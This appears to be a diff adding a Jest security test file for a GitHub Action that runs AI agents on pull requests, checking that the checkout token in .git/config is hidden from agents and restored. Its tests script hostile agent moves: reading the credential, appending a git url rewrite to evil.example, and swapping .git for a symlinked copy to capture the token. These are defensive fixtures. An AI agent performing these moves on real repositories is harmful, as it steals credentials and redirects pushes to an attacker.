@@ -1,0 +1,206 @@
+// actions/checkout keeps the job's token in .git/config by default
+// (persist-credentials: true): `http.https://github.com/.extraheader` with
+// `AUTHORIZATION: basic base64(x-access-token:TOKEN)`, inside the context
+// path the agents read. The action takes it out for the run and puts it
+// back, byte for byte, after: in the main step, or in the post step when the
+// main step died. Played through the bundle with a MassGen stand-in that
+// reads the config as an agent would (FAKE_MASSGEN_READ).
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
+import * as fs from 'node:fs'
+import * as os from 'node:os'
+import * as path from 'node:path'
+import type { GitHubServer } from '../../test-support/github-server.js'
+import { FAKE_MASSGEN, runAction } from '../../test-support/run-action.js'
+import { event, githubWithPull, KEYS } from '../e2e/helpers.js'
+
+/** The github-token run-action gives the action (checkout's default token). */
+const TOKEN = 'ghs_e2eTokenValue0000000000000000000000'
+const CREDENTIAL = Buffer.from(`x-access-token:${TOKEN}`).toString('base64')
+
+let github: GitHubServer
+beforeAll(async () => {
+  github = await githubWithPull()
+})
+afterAll(async () => {
+  await github.close()
+})
+
+/** A checkout as actions/checkout@v5 leaves it, with a linked worktree. */
+function checkout() {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'security-git-'))
+  const workspace = path.join(dir, 'repo')
+  const gitDir = path.join(workspace, '.git')
+  fs.mkdirSync(path.join(gitDir, 'worktrees', 'side'), { recursive: true })
+  fs.mkdirSync(path.join(gitDir, 'objects'))
+  fs.writeFileSync(path.join(workspace, 'README.md'), 'hello\n')
+  const config = [
+    '[core]',
+    '\trepositoryformatversion = 0',
+    '\tfilemode = true',
+    '[remote "origin"]',
+    '\turl = https://github.com/octo-org/octo-repo',
+    '\tfetch = +refs/heads/*:refs/remotes/origin/*',
+    '[gc]',
+    '\tauto = 0',
+    '[http "https://github.com/"]',
+    `\textraheader = AUTHORIZATION: basic ${CREDENTIAL}`,
+    ''
+  ].join('\n')
+  const worktreeConfig = `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${CREDENTIAL}\n`
+  fs.writeFileSync(path.join(gitDir, 'config'), config)
+  fs.writeFileSync(
+    path.join(gitDir, 'worktrees', 'side', 'config.worktree'),
+    worktreeConfig
+  )
+  return {
+    dir,
+    workspace,
+    seen: path.join(dir, 'agent-saw-config.txt'),
+    seenWorktree: path.join(dir, 'agent-saw-worktree.txt'),
+    expectRestored() {
+      expect(fs.readFileSync(path.join(gitDir, 'config'), 'utf8')).toBe(config)
+      expect(
+        fs.readFileSync(
+          path.join(gitDir, 'worktrees', 'side', 'config.worktree'),
+          'utf8'
+        )
+      ).toBe(worktreeConfig)
+    },
+    gitDir
+  }
+}
+
+function inputs(tag: string): Record<string, string> {
+  return {
+    query: 'Is the parser change safe?',
+    models: 'openai/gpt-5.4',
+    'openai-api-key': KEYS.openai,
+    'massgen-command': FAKE_MASSGEN,
+    'comment-tag': tag,
+    'max-duration': '60'
+  }
+}
+
+describe('the token actions/checkout persisted', () => {
+  it('attack: an agent reads the token actions/checkout left in .git/config — fails', async () => {
+    const repo = checkout()
+    const run = await runAction({
+      eventName: 'pull_request',
+      payload: event('pull_request.opened'),
+      githubApiUrl: github.url,
+      workspace: repo.workspace,
+      inputs: inputs('git-creds'),
+      env: {
+        FAKE_MASSGEN_SCENARIO: 'success',
+        FAKE_MASSGEN_READ: JSON.stringify({
+          from: path.join(repo.gitDir, 'config'),
+          to: repo.seen
+        })
+      }
+    })
+    expect(run.outputs.status).toBe('success')
+    const seen = fs.readFileSync(repo.seen, 'utf8')
+    // The agent saw the rest of the config, not the header.
+    expect(seen).toContain('[remote "origin"]')
+    expect(seen).not.toMatch(/extraheader/i)
+    expect(seen).not.toContain(CREDENTIAL)
+    expect(seen).not.toContain(TOKEN)
+    expect(run.stdout).toMatch(
+      /::warning::.*keeps a GitHub token.*persist-credentials: false/
+    )
+    repo.expectRestored()
+    expect(run.state['git-credentials'] ?? '').toBe('')
+    // Nothing the action saved holds the credential.
+    expect(JSON.stringify(run.state)).not.toContain(CREDENTIAL)
+  }, 120_000)
+
+  it('the main step dies mid-run: the post step puts the credentials back exactly', async () => {
+    const repo = checkout()
+    const run = await runAction({
+      eventName: 'pull_request',
+      payload: event('pull_request.opened'),
+      githubApiUrl: github.url,
+      workspace: repo.workspace,
+      inputs: inputs('git-creds-post'),
+      env: {
+        FAKE_MASSGEN_SCENARIO: 'hang',
+        FAKE_MASSGEN_READ: JSON.stringify({
+          from: path.join(repo.gitDir, 'worktrees', 'side', 'config.worktree'),
+          to: repo.seenWorktree
+        })
+      },
+      killAfterMs: 5000
+    })
+    expect(fs.readFileSync(repo.seenWorktree, 'utf8')).not.toContain(CREDENTIAL)
+    expect(run.state['git-credentials']).toContain('config.worktree')
+    expect(run.state['git-credentials']).not.toContain(CREDENTIAL)
+    expect(run.post?.exitCode).toBe(0)
+    expect(run.post?.stdout).toContain("Put the checkout's credentials back")
+    repo.expectRestored()
+  }, 120_000)
+
+  it('an agent edits .git/config during the run: the token is not put back into it', async () => {
+    const repo = checkout()
+    const config = path.join(repo.gitDir, 'config')
+    // The stand-in's wrapper rewrites the config as a hostile agent would.
+    const wrapper = path.join(repo.dir, 'edit-config.mjs')
+    fs.writeFileSync(
+      wrapper,
+      [
+        "import * as fs from 'node:fs'",
+        `fs.appendFileSync(${JSON.stringify(config)}, '[url "https://evil.example/"]\\n\\tinsteadOf = https://github.com/\\n')`,
+        `await import(${JSON.stringify(FAKE_MASSGEN)})`,
+        ''
+      ].join('\n')
+    )
+    const run = await runAction({
+      eventName: 'pull_request',
+      payload: event('pull_request.opened'),
+      githubApiUrl: github.url,
+      workspace: repo.workspace,
+      inputs: {
+        ...inputs('git-creds-edit'),
+        'massgen-command': `node ${wrapper}`
+      },
+      env: { FAKE_MASSGEN_SCENARIO: 'success' }
+    })
+    expect(run.outputs.status).toBe('success')
+    const after = fs.readFileSync(config, 'utf8')
+    expect(after).toContain('evil.example')
+    expect(after).not.toContain(CREDENTIAL)
+    expect(run.stdout).toMatch(/::warning::.*changed during the run/)
+  }, 120_000)
+
+  it('attack: an agent swaps the .git folder for a link to a copy it controls, to get the token written there — fails', async () => {
+    const repo = checkout()
+    const copy = path.join(repo.dir, 'attacker-git')
+    const wrapper = path.join(repo.dir, 'swap-git.mjs')
+    fs.writeFileSync(
+      wrapper,
+      [
+        "import * as fs from 'node:fs'",
+        `fs.cpSync(${JSON.stringify(repo.gitDir)}, ${JSON.stringify(copy)}, { recursive: true })`,
+        `fs.renameSync(${JSON.stringify(repo.gitDir)}, ${JSON.stringify(`${repo.gitDir}-moved`)})`,
+        `fs.symlinkSync(${JSON.stringify(copy)}, ${JSON.stringify(repo.gitDir)})`,
+        `await import(${JSON.stringify(FAKE_MASSGEN)})`,
+        ''
+      ].join('\n')
+    )
+    const run = await runAction({
+      eventName: 'pull_request',
+      payload: event('pull_request.opened'),
+      githubApiUrl: github.url,
+      workspace: repo.workspace,
+      inputs: {
+        ...inputs('git-creds-swap'),
+        'massgen-command': `node ${wrapper}`
+      },
+      env: { FAKE_MASSGEN_SCENARIO: 'success' }
+    })
+    expect(run.outputs.status).toBe('success')
+    expect(fs.readFileSync(path.join(copy, 'config'), 'utf8')).not.toContain(
+      CREDENTIAL
+    )
+    expect(run.stdout).toMatch(/::warning::.*was not put back/)
+  }, 120_000)
+})
